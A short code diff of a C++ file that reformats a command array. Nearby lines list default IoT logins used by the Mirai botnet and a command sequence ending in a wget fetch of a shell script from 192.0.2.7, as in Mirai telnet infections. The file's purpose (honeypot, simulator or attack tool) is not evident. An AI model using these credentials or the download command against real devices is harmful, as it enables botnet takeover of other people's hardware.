@@ -23,8 +23,13 @@ const std::array kTargets{
 
 const std::array kUsers{"root", "admin", "support", "user", "guest", "default"};
 const std::array kPasswords{"xc3511", "vizxv", "admin", "888888", "12345", "default", "root"};
-const std::array kCommands{"enable", "system", "shell", "sh", "/bin/busybox MIRAI",
-                           "cat /proc/cpuinfo", "cd /tmp || cd /var/run; wget http://192.0.2.7/x.sh"};
+const std::array kCommands{"enable",
+                           "system",
+                           "shell",
+                           "sh",
+                           "/bin/busybox MIRAI",
+                           "cat /proc/cpuinfo",
+                           "cd /tmp || cd /var/run; wget http://192.0.2.7/x.sh"};
 
 }  // namespace
 
